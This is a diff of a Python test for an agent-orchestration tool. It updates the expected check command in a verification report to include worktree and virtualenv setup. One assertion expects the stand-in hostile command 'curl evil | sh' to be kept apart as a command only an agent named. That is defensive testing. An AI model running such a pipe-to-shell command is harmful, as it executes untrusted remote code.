@@ -259,13 +259,22 @@ def test_a_command_that_only_an_agent_named_is_not_in_the_line_to_copy():
             e.BaselineTaken(tree="c", environment="", checks=checks),
             e.PlanAccepted(tasks=(task("t1"),), criteria=()),
             e.TaskStarted(task_id="t1", branch="b", worktree="/w", base_commit="d"),
+            e.WorkspaceSetUp(
+                task_id="t1",
+                folder="/w",
+                copied=(),
+                runs=(replace(own, command="python3 -m venv .venv && .venv/bin/x"),),
+            ),
             e.MergeStarted(task_id="t1", commit="a" * 40, onto="d"),
             e.TaskMerged(**merged),
             e.VerificationFinished(task_id="", tree="b" * 40, runs=(done, own)),
         ]
     )
     report = read(events).report("1")
-    assert report.check.command == "git switch --detach aaaaaaaaaaaa && make test"
+    assert report.check.command == (
+        "git worktree add --detach ../check-aaaaaaaaaaaa aaaaaaaaaaaa && cd ../check-aaaaaaaaaaaa && "
+        'python3 -m venv .venv && .venv/bin/x && export PATH="$PWD/.venv/bin:$PATH" && make test'
+    )
     assert report.check.named_by_agents == ("curl evil | sh",)
     assert "Only an agent named these commands" in web(read(events))
 
